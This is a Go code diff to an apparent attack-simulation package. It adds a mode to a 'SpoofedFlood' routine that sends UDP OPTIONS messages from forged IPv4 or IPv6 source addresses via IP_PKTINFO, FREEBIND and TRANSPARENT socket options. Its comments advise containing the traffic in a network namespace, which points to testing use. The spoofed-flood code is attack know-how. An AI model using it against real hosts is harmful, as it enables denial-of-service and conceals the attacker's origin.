@@ -32,6 +32,17 @@ const (
 	// and sends from each in turn. No privilege needed; at most
 	// MaxLoopbackSources sources.
 	SpoofLoopback
+	// SpoofPktinfo sends from one UDP socket, naming each datagram's
+	// source address in an IP_PKTINFO / IPV6_PKTINFO control message; the
+	// socket has IP_FREEBIND and, where allowed, IP_TRANSPARENT. IPv4 or
+	// IPv6 (Sources and Target of the same family). The kernel accepts a
+	// non-local IPv6 source with FREEBIND alone, an IPv4 one only with
+	// IP_TRANSPARENT (CAP_NET_ADMIN) or when the prefix is local (an
+	// AnyIP route: ip route add local PREFIX dev lo). Run it in a network
+	// namespace (NetNS) with such a route, so that answers to the spoofed
+	// sources stay in it. Sources of an IPv6 prefix of /64 or shorter are
+	// spread over its /64s (see SpreadAddr).
+	SpoofPktinfo
 )
 
 func (m SpoofMode) String() string {
@@ -42,6 +53,8 @@ func (m SpoofMode) String() string {
 		return "raw"
 	case SpoofLoopback:
 		return "loopback"
+	case SpoofPktinfo:
+		return "pktinfo"
 	}
 	return "SpoofMode(" + strconv.Itoa(int(m)) + ")"
 }
@@ -119,6 +132,9 @@ func SpoofedFlood(ctx context.Context, cfg SpoofedFloodConfig) (SpoofReport, err
 		return rep, err
 	}
 	dst := netip.AddrPortFrom(cfg.Target.Addr().Unmap(), cfg.Target.Port())
+	if cfg.Mode == SpoofPktinfo {
+		return spoofPktinfo(ctx, cfg, dst)
+	}
 	if !dst.Addr().Is4() {
 		return rep, fmt.Errorf("attack: SpoofedFlood: target %s is not IPv4", dst)
 	}
@@ -235,8 +251,15 @@ func sourceRange(pfx netip.Prefix) (netip.Addr, uint64) {
 
 // spoofOptions appends the default payload: an OPTIONS naming src.
 func spoofOptions(b []byte, src netip.Addr, port uint16, domain, ua string, ids *idGen) []byte {
-	var hpBuf [24]byte
-	hp := src.AppendTo(hpBuf[:0])
+	var hpBuf [48]byte
+	hp := hpBuf[:0]
+	if src.Is6() {
+		hp = append(hp, '[')
+	}
+	hp = src.AppendTo(hp)
+	if src.Is6() {
+		hp = append(hp, ']')
+	}
 	if port != 0 {
 		hp = append(hp, ':')
 		hp = strconv.AppendUint(hp, uint64(port), 10)
